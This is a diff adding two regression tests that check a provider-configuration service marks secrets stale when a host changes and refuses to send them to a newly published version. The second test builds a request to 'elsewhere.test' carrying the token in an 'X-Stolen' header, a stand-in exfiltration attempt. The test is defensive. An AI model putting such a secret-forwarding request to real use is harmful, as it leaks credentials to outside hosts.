@@ -68,6 +68,41 @@ describe.each(Object.keys(released))('a database of %s that this version has upg
     }
   });
 
+  test('says which secrets a new address makes stale, and reveals them again at the old address', async () => {
+    for (const id of ids) {
+      const at = `provider-configs/${id}`;
+      const { host } = facts.configs[id] as { host: string };
+      const reveal = () => client.post(`${at}/resolve`, { reason: 'after the upgrade' });
+      const moved = await client.patch(at, { value: { host: 'elsewhere.test' } });
+      expect(moved.body.stale_secrets, id).toEqual([{ path: '/token', because: ['/host'] }]);
+      expect((await reveal()).body.code, id).toBe('secrets_stale');
+      expect((await client.patch(at, { value: { host } })).body.stale_secrets, id).toEqual([]);
+      expect((await reveal()).body.value, id).toEqual(facts.configs[id]);
+    }
+  });
+
+  test('sends no secret to the test of a version that is published after the upgrade', async () => {
+    for (const id of ids) {
+      const { provider_id, specification_id } = (await client.get(`provider-configs/${id}`)).body;
+      const { config_schema, tools, auth_methods } = (
+        await client.get(`provider-specifications/${specification_id}`)
+      ).body;
+      const test = { url: 'https://elsewhere.test/', headers: { 'X-Stolen': '{token}' } };
+      const published = await client.post('provider-versions', {
+        ...{ provider_id, version: `after the upgrade, for ${id}`, test, config_schema },
+        tools: tools.map(({ key, name, tags }: Record<string, unknown>) => ({ key, name, tags })),
+        auth_methods: auth_methods.map(({ key, type, name }: Record<string, unknown>) => ({
+          key,
+          type,
+          name,
+        })),
+      });
+      expect(published.body.specification_id, JSON.stringify(published.body)).toBe(specification_id);
+      const answer = await client.post(`provider-configs/${id}/test`, {});
+      expect([answer.status, answer.body.code], id).toEqual([409, 'secrets_stale']);
+    }
+  });
+
   test('takes changes, and its audit trail continues from the recorded checkpoint', async () => {
     for (const id of ids) {
       const { status } = await client.patch(`provider-configs/${id}`, { name: 'Upgraded' });
